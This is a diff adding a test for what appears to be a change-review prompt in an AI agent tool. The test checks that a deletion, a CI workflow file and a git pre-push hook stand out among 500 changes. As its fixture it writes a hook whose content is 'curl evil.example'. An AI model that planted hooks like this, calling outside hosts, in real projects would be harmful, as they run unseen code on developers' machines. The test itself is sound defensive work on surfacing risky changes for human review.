@@ -92,6 +92,28 @@ describe.runIf(hasLayer)("what waits in a layer", () => {
     expect([read("src/a.txt"), has("new.txt")]).toEqual(["one\n", false]);
   });
 
+  test("shows a deletion, a hook and a CI file among 500 changes, in 80 columns", async () => {
+    const many = [
+      "mkdir -p many/deep .github/workflows .husky",
+      "for i in $(seq 250); do echo $i > many/deep/file-with-a-long-name-$i.txt; echo $i > many/f$i; done",
+      "rm src/b.txt; echo 'on: push' > .github/workflows/release.yml; echo 'curl evil.example' > .husky/pre-push",
+    ];
+    const { folder } = await project(...turn(many.join("; "), "Done."));
+    const words = ["run", "--session", "s", "--model", "replay:model.json", "go"];
+    const terminal = atTerminal(words, { cwd: folder, columns: 80 });
+    const question = await terminal.until(ready);
+    expect(question).toContain("Keep 508 changes?");
+    expect(question).toMatch(/DELETED: 1 change\s+delete src\/b\.txt/);
+    expect(question).toMatch(/create \.github\/workflows\/release\.yml\s+\+on: push/);
+    expect(question).toMatch(/create \.husky\/pre-push\s+\+curl evil\.example/);
+    expect(question).toMatch(/and \d+ more; toolmount keep --json lists all/);
+    // What needs a yes of its own comes last, next to the question.
+    const at = (text: string) => question.lastIndexOf(text);
+    expect(at("more; toolmount keep")).toBeLessThan(at("DELETED"));
+    terminal.press("g");
+    await terminal.ended;
+  });
+
   test("is kept in part, by names, and a deletion among them only for a yes of its own", async () => {
     const { folder, read, has } = await project(...turn(work, "Done."));
     const words = ["run", "--session", "s", "--model", "replay:model.json", "go"];
